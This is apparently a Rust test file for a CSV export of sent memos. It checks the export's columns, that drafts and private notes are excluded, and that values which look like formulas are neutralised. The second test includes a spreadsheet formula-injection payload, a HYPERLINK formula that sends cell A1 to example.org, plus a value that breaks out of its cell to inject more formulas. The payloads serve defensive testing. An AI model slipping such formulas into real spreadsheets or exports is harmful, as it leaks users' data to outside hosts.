//! Sent memos as CSV.

use memoranda_tests::Office;
use service::progress::Silent;

/// The sheet of the office, without the mark at its beginning.
async fn sheet(office: &Office) -> String {
    let mut bytes = Vec::new();
    let backend = office.commands().await;
    archive::write_memo_sheet(&backend.services.database, &mut bytes, &Silent).await.unwrap();
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").expect("a mark that says UTF-8");
    String::from_utf8(bytes.to_owned()).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn sent_memos_have_names_times_and_counts_and_no_conclusion() {
    let office = Office::open().await;
    let (memo, _) = office.full_memo().await;
    office.memo().named("A secret draft").draft().create().await;
    office.sql("UPDATE memos SET note = 'for two people alone'").await;
    let sheet = sheet(&office).await;
    let mut lines = sheet.split("\r\n");
    let heading: Vec<&str> = lines.next().unwrap().split(',').collect();
    let mut reader = csv::Reader::from_reader(sheet.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let row = rows.iter().find(|row| row.get(0) == Some(memo.id.as_str())).unwrap();
    let cell = |name: &str| {
        let at = heading.iter().position(|heading| *heading == format!("\"{name}\"")).unwrap();
        row.get(at).unwrap().to_owned()
    };
    assert_eq!((cell("author"), cell("author_username")), ("The author".into(), "author".into()));
    assert_eq!(cell("recipient"), "The recipient");
    assert_eq!(cell("sent_at_utc"), "2026-03-02 09:00:00");
    for counted in ["subscribers", "comments", "files"] {
        assert_ne!(cell(counted), "0", "{counted}");
    }
    for named in ["deal", "task", "project", "resolution", "tags"] {
        assert_ne!(cell(named), "", "{named}");
    }
    assert!(!sheet.contains("A secret draft") && !sheet.contains("for two people alone"));
    office.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn texts_that_look_like_formulas_and_cells_that_end_early_are_texts() {
    let office = Office::open().await;
    let evil = "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")";
    office.memo().named(evil).create().await;
    office.memo().named("one\",\"=1+1\r\n=2+2;=3+3").create().await;
    let sheet = sheet(&office).await;
    let cells = "\"'=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"click\"\")\"";
    assert!(sheet.contains(cells), "{sheet}");
    assert!(sheet.contains("\"one\"\",\"\"=1+1\r\n=2+2;=3+3\""), "{sheet}");
    let mut reader = csv::Reader::from_reader(sheet.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }
    office.close().await;
}
